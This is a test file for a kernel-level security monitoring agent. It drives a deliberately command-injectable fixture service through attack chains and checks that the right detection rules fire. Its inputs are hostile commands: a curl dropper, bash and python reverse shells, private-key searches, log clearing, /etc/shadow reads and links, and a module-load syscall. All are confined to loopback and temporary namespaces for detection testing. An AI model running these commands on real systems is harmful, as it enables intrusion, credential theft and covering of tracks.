// Attack chains through a command-injectable service (test/fixtures/
// cmd-server.mjs), under the default rules: each raises exactly the rules
// expected, however the attacker spells the path or whether a shell sits
// in between. Every connection goes to a listener this test opens on
// loopback; every shell it starts is told to exit.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { ROOT } from '../../src/paths.js';
import { eventually, isRoot, startAgent, tmpDir, type RunningAgent } from '../helpers.js';
import { fixtureCopy, startPeer, type Peer } from '../peers.js';

interface AlertLine {
  rule: string;
  event: string;
  port?: number;
  path?: string;
  fd?: number;
  peer?: string;
  syscall?: string;
  process: { pid: number; name: string; exe: string; requested?: string; cwd?: string; args: string[] };
  parents: Array<{ pid: number; name: string }>;
}

/** A directory no rule calls temporary, wherever the checkout lives (CI may clone under /tmp). */
const OUTSIDE_TMP = '/var/lib';

let agent: RunningAgent;
let dir: string;
let alertsFile: string;
let server: Peer;
let serverCleanup: () => void;
let done = 0;
let serverPort = 0;

before(async () => {
  assert.ok(isRoot, 'the agent needs root (CI runs as root)');
  dir = tmpDir('ks-attack');
  alertsFile = path.join(dir, 'alerts.jsonl');
  agent = await startAgent(`security:\n  output:\n    stdout: false\n    file: ${alertsFile}\n`);
  const f = fixtureCopy('cmd-server.mjs', 'victim');
  serverCleanup = f.cleanup;
  server = startPeer(f.script, []);
  serverPort = Number((await server.line(/^ready \d+$/)).split(' ')[1]);
});

after(async () => {
  await server.end();
  serverCleanup();
  assert.equal(await agent.stop(), 0);
  fs.rmSync(dir, { recursive: true, force: true });
});

/** Runs one command through the service; resolves with its exit code. */
async function inject(cmd: { shell: string } | { file: string; args: string[] }): Promise<string> {
  const id = ++done;
  server.send(`${JSON.stringify(cmd)}\n`);
  const line = await server.line(new RegExp(`^done ${id} `));
  return line.split(' ')[2]!;
}

function alerts(): AlertLine[] {
  if (!fs.existsSync(alertsFile)) return [];
  const pid = server.child.pid!;
  return fs.readFileSync(alertsFile, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as AlertLine)
    .filter((a) => a.parents.some((p) => p.pid === pid) || a.process.pid === pid);
}

/** The alerts raised since `from`, once they stop coming. */
async function raisedSince(from: number, atLeast: number): Promise<AlertLine[]> {
  await eventually(async () => alerts().length - from >= atLeast, 5000);
  await new Promise((r) => setTimeout(r, 500)); // nothing more may come
  return alerts().slice(from);
}

const rules = (xs: AlertLine[]): string[] => [...new Set(xs.map((a) => a.rule))].sort();

/** A listener for one reverse shell: it tells the shell to exit. */
async function shellCatcher(): Promise<{ port: number; got: Promise<string>; close: () => void }> {
  const srv = net.createServer();
  let resolve!: (s: string) => void;
  const got = new Promise<string>((r) => (resolve = r));
  srv.on('connection', (c) => {
    let text = '';
    c.on('data', (d) => (text += d.toString()));
    c.on('close', () => resolve(text));
    c.on('error', () => undefined);
    c.write('echo kernscope-owned\nexit\n');
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  return { port: (srv.address() as net.AddressInfo).port, got, close: () => srv.close() };
}

test('a dropper: fetched with curl, made executable, run by a relative path, a path with .. and a symlink', async () => {
  const payload = fs.readFileSync('/bin/true');
  const web = http.createServer((_req, res) => res.end(payload));
  await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
  const port = (web.address() as net.AddressInfo).port;
  // The symlink lives outside any temporary location: only the resolved path tells.
  const linkDir = fs.mkdtempSync(path.join(OUTSIDE_TMP, 'ks-link-'));
  try {
    const work = path.join(dir, 'work');
    fs.mkdirSync(work);
    const from = alerts().length;
    const code = await inject({ shell: `cd ${work} && curl -s -o payload http://127.0.0.1:${port}/p && chmod +x payload && ./payload && mkdir sub && cd sub && ../payload && ln -s ${work}/payload ${linkDir}/tool && ${linkDir}/tool` });
    assert.equal(code, '0');
    const got = await raisedSince(from, 5);
    assert.deepEqual(rules(got), ['exec-from-temporary-location', 'network-tool-spawned-by-server', 'shell-spawned-by-server']);
    const runs = got.filter((a) => a.rule === 'exec-from-temporary-location');
    // Three runs of the one file, each by its real path, each as it was asked for.
    assert.deepEqual(runs.map((a) => a.process.exe), [`${work}/payload`, `${work}/payload`, `${work}/payload`]);
    assert.deepEqual(runs.map((a) => a.process.requested), ['./payload', '../payload', `${linkDir}/tool`]);
    assert.deepEqual(runs.map((a) => a.process.cwd), [work, `${work}/sub`, `${work}/sub`]);
    assert.deepEqual(runs.map((a) => a.process.name), ['payload', 'payload', 'tool']);
  } finally {
    web.close();
    fs.rmSync(linkDir, { recursive: true, force: true });
  }
});

test('a reverse shell through bash\'s /dev/tcp to a port that is no stratum port', async () => {
  const c = await shellCatcher();
  try {
    const from = alerts().length;
    // --norc: this machine's own rc files would run programs of their own.
    await inject({ shell: `bash -c 'bash --norc -i >& /dev/tcp/127.0.0.1/${c.port} 0>&1'` });
    assert.match(await c.got, /kernscope-owned/); // the shell ran what it was sent
    const got = await raisedSince(from, 3);
    assert.deepEqual(rules(got), ['reverse-shell', 'shell-spawned-by-server', 'shell-with-socket-stdio']);
    const rs = got.filter((a) => a.rule === 'reverse-shell');
    assert.equal(rs.length, 1, 'one alert per connection, however many streams it took');
    assert.equal(rs[0]!.process.name, 'bash');
    assert.equal(rs[0]!.peer, `127.0.0.1:${c.port}`);
    assert.ok([0, 1, 2].includes(rs[0]!.fd!));
  } finally {
    c.close();
  }
});

test('python3 -c with a socket, spawned by the service with no shell in between', async () => {
  const c = await shellCatcher();
  try {
    const from = alerts().length;
    const code = `import os,socket;s=socket.create_connection(('127.0.0.1',${c.port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv('/bin/sh',['sh','-i'])`;
    await inject({ file: '/usr/bin/python3', args: ['-c', code] });
    assert.match(await c.got, /kernscope-owned/);
    const got = await raisedSince(from, 4);
    assert.deepEqual(rules(got), ['inline-code-spawned-by-server', 'reverse-shell', 'shell-spawned-by-server', 'shell-with-socket-stdio']);
    const rs = got.filter((a) => a.rule === 'reverse-shell');
    assert.equal(rs.length, 1);
    assert.equal(rs[0]!.process.name, 'python3');
    assert.equal(rs[0]!.peer, `127.0.0.1:${c.port}`);
    const inline = got.find((a) => a.rule === 'inline-code-spawned-by-server')!;
    assert.deepEqual(inline.process.args, ['/usr/bin/python3', '-c', code]);
    // python3 is a symlink: the rule saw the name it was called by, the event carries the file.
    assert.equal(inline.process.exe, fs.realpathSync('/usr/bin/python3'));
  } finally {
    c.close();
  }
});

test('a kernel module load attempt (finit_module on a bad fd)', async (t) => {
  if (!fs.readFileSync('/sys/kernel/tracing/available_events', 'utf8').includes('syscalls:sys_enter_finit_module')) {
    t.skip('this kernel is built without module support: no finit_module to call or to see');
    return;
  }
  const all = (): AlertLine[] => (fs.existsSync(alertsFile) ? fs.readFileSync(alertsFile, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as AlertLine) : []);
  const nr = process.arch === 'arm64' ? 273 : 313;
  const before = all().length;
  // Fails with EBADF: nothing is loaded.
  const out = execFileSync('/usr/bin/python3', ['-c', `import ctypes,os;r=ctypes.CDLL(None,use_errno=True).syscall(${nr},-1,b'',0);print(r,os.strerror(ctypes.get_errno()))`], { encoding: 'utf8' });
  assert.match(out, /^-1 Bad file descriptor/);
  assert.ok(await eventually(async () => all().slice(before).some((a) => a.rule === 'kernel-module-load'), 5000));
  await new Promise((r) => setTimeout(r, 300));
  const got = all().slice(before).filter((a) => a.rule === 'kernel-module-load');
  assert.equal(got.length, 1);
  assert.equal(got[0]!.process.name, 'python3');
  assert.equal(got[0]!.syscall, 'finit_module');
});

test('a private-key search, by name and by content', async () => {
  const from = alerts().length;
  await inject({ shell: `find ${dir} -name id_rsa; grep -rl 'PRIVATE KEY' ${dir}` });
  const got = await raisedSince(from, 3);
  assert.deepEqual(rules(got), ['credential-search', 'shell-spawned-by-server']);
  assert.deepEqual(got.filter((a) => a.rule === 'credential-search').map((a) => a.process.name).sort(), ['find', 'grep']);
});

// The writes below happen in a private mount namespace on tmpfs: the host's
// /usr/local/bin and /var/log are never touched.
test('a write below a binary directory, in a private mount namespace, by path and by a name relative to it', async () => {
  const from = alerts().length;
  const code = await inject({ shell: "unshare -m sh -c 'mount -t tmpfs ks /usr/local/bin && touch /usr/local/bin/ks-dropped && cd /usr/local/bin && mv ks-dropped ks-renamed'" });
  assert.equal(code, '0');
  const got = await raisedSince(from, 3);
  assert.deepEqual(rules(got), ['shell-spawned-by-server', 'write-below-binary-dir']);
  const w = got.filter((a) => a.rule === 'write-below-binary-dir').map((a) => `${a.process.name} ${a.event} ${a.path}`);
  assert.deepEqual(w, ['touch open /usr/local/bin/ks-dropped', 'mv rename /usr/local/bin/ks-dropped']);
});

test('logs cleared: a log emptied by a redirection, truncate(1) and rm from its directory', async () => {
  const from = alerts().length;
  // The log is a moment old when it is emptied: an open that makes the file is no clearing.
  const code = await inject({ shell: "unshare -m sh -c 'mount -t tmpfs ks /var/log && echo x >> /var/log/app.log && sleep 0.1 && : > /var/log/app.log && truncate -s 0 /var/log/app.log && cd /var/log && rm app.log'" });
  assert.equal(code, '0');
  const got = await raisedSince(from, 4);
  assert.deepEqual(rules(got), ['log-or-history-cleared', 'shell-spawned-by-server']);
  // The append is no clearing; the rest are, each once.
  const c = got.filter((a) => a.rule === 'log-or-history-cleared').map((a) => `${a.process.name} ${a.event} ${a.path}`);
  assert.deepEqual(c, ['sh open /var/log/app.log', 'truncate truncate /var/log/app.log', 'rm unlink /var/log/app.log']);
});

test('a shell history: made by an interactive bash, not cleared; emptied later, cleared', async () => {
  // Under /home, as a user's: bash makes a missing history file with O_CREAT|O_TRUNC.
  fs.mkdirSync('/home', { recursive: true });
  const home = fs.mkdtempSync('/home/ks-hist-');
  try {
    const from = alerts().length;
    const code = await inject({ shell: `printf 'echo hi\\nexit\\n' | HOME=${home} bash --norc -i >/dev/null 2>&1; test -s ${home}/.bash_history && sleep 0.1 && : > ${home}/.bash_history` });
    assert.equal(code, '0');
    const got = await raisedSince(from, 2);
    assert.deepEqual(rules(got), ['log-or-history-cleared', 'shell-spawned-by-server']);
    const c = got.filter((a) => a.rule === 'log-or-history-cleared');
    assert.deepEqual(c.map((a) => `${a.process.name} ${a.event} ${a.path}`), [`sh open ${home}/.bash_history`]);
  } finally {
    fs.rmSync(home, { recursive: true, force: true });
  }
});

test('a symlink to /etc/shadow', async () => {
  const from = alerts().length;
  await inject({ shell: `ln -s /etc/shadow ${dir}/innocent.txt` });
  const got = await raisedSince(from, 2);
  assert.deepEqual(rules(got), ['link-to-sensitive-file', 'shell-spawned-by-server']);
  const l = got.find((a) => a.rule === 'link-to-sensitive-file') as AlertLine & { target: string; link: string };
  assert.deepEqual([l.process.name, l.target, l.link], ['ln', '/etc/shadow', 'symbolic']);
});

test('the shadow file read by a name relative to /etc', async () => {
  const from = alerts().length;
  await inject({ shell: 'cd /etc && head -c 0 ./shadow && head -c 0 shadow' });
  const got = await raisedSince(from, 3);
  assert.deepEqual(rules(got), ['shadow-file-read', 'shell-spawned-by-server']);
  assert.deepEqual(got.filter((a) => a.rule === 'shadow-file-read').map((a) => `${a.process.name} ${a.path}`), ['head /etc/shadow', 'head /etc/shadow']);
});

test('drop and execute in a container: a program written after its pid namespace started, not one from before', async () => {
  // Outside any temporary location: only the file's age can tell.
  const drop = fs.mkdtempSync(path.join(OUTSIDE_TMP, 'ks-drop-'));
  try {
    const from = alerts().length;
    const code = await inject({ shell: `unshare -fp --mount-proc sh -c 'cp /bin/true ${drop}/dropped && ${drop}/dropped && /bin/true'` });
    assert.equal(code, '0');
    const got = await raisedSince(from, 2);
    assert.deepEqual(rules(got), ['drop-and-execute-in-container', 'shell-spawned-by-server']);
    const d = got.filter((a) => a.rule === 'drop-and-execute-in-container');
    assert.deepEqual(d.map((a) => a.process.exe), [`${drop}/dropped`]);
  } finally {
    fs.rmSync(drop, { recursive: true, force: true });
  }
});

test('opt-in (rules/outbound.yaml): a server\'s child connecting to a port the server does not listen on, not to its own', async () => {
  const file2 = path.join(dir, 'outbound.jsonl');
  const second = await startAgent(`security:\n  rules: [${path.join(ROOT, 'rules', 'outbound.yaml')}]\n  output:\n    stdout: false\n    file: ${file2}\n`);
  const c = await shellCatcher();
  try {
    await inject({ shell: `nc -z -w 1 127.0.0.1 ${serverPort}; nc -z -w 1 127.0.0.1 ${c.port}` });
    const mine = (): AlertLine[] => (fs.existsSync(file2) ? fs.readFileSync(file2, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as AlertLine) : [])
      .filter((a) => a.rule === 'server-descendant-unexpected-connection' && a.parents.some((p) => p.pid === server.child.pid));
    assert.ok(await eventually(async () => mine().length > 0, 5000));
    await new Promise((r) => setTimeout(r, 500));
    assert.deepEqual(mine().map((a) => [a.process.name, a.port]), [['nc', c.port]]);
  } finally {
    c.close();
    assert.equal(await second.stop(), 0);
  }
});
